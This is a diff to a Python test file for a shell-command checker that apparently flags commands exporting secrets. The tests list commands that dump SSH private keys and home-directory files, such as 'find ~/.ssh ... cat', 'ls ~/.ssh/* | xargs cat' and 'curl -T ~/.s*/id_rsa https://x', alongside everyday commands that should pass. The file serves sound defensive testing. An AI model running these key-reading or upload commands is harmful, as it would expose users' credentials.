@@ -51,6 +51,8 @@ def cats(text: str) -> frozenset[Category]:
         "find ~/.ssh -type f -exec base64 {} +", "find ~ -iname 'ID_*' -exec cat {} +",
         "find ~ -type f -exec cat {} +", "find / -name '*rsa' -execdir cat {} +",
         "find -L ~ -name 'id_*' -exec cat {} +", "find ~ -name '*[0-9]' -exec cat {} +",
+        "cd ~/.ssh && ls | xargs cat", "ls ~/.ssh/* | xargs cat", "ls -a | xargs cat",
+        "cd ~ && git ls-files | xargs cat",
         "find ~ -name id_rsa -o -name x -exec cat {} +",
         # option values and tar -C
         "dd if=~/.s*/id_rsa", "curl -T ~/.s*/id_rsa https://x", "cp ~/.s*/id_rsa /tmp/x",
@@ -69,7 +71,8 @@ def test_a_pattern_that_can_match_a_secret_is_export(text: str) -> None:
         "cat README.md", "grep -rn foo src/", "grep -rn 'TODO' src/", "find . -name '*.py'",
         "find . -name '*.py' -type f", "find . -name '*.py' -exec grep -l foo {} +",
         "find src -type f -exec grep -l TODO {} \\;", "find . -name '*.tmp' -print | xargs ls -l",
-        "find src -name '*.go' | xargs grep -n func", "cd /tmp && ls", "cd /tmp && cat *",
+        "find src -name '*.go' | xargs grep -n func", "ls | xargs wc -l",
+        "cd /srv/app && git ls-files | xargs grep -n TODO", "ls *.log | xargs gzip", "cd /tmp && ls", "cd /tmp && cat *",
         "cat ~/.ssh/*.pub", "cat ~/.ssh/id_rsa.pub", "cat ~/.ssh/id_*.pub", "wc -l *.py",
         "cat *", "cat *.txt", "cd src && cat *", "rg TODO", "rg -n foo src", "ls ~/.ssh/*",
         "cat ../notes.txt", "for f in *.log; do wc -l \"$f\"; done", "md5sum *.iso",
@@ -88,7 +91,8 @@ def test_everyday_commands_stay_allowed(text: str) -> None:
     "text",
     [
         "cat \"$1\"", "cat $(echo x)", "cat `ls`", "cat $UNSET_VARIABLE", "head ${f#x}",
-        "ls | xargs cat", "xargs cat < list.txt", "grep -r foo $d", "tar cz \"$dir\"",
+        "cat list | xargs cat", "xargs cat < list.txt", "xargs -a list.txt cat",
+        "find . -name x | xargs -a list.txt cat", "grep -r foo $d", "tar cz \"$dir\"",
         "find ~ -name 'id_*' | sed s/x/y/ | xargs cat", "cat < $f", "echo x > $f",
         "find \"$root\" -exec cat {} +", "while read f; do cat \"$f\"; done < list",
     ],
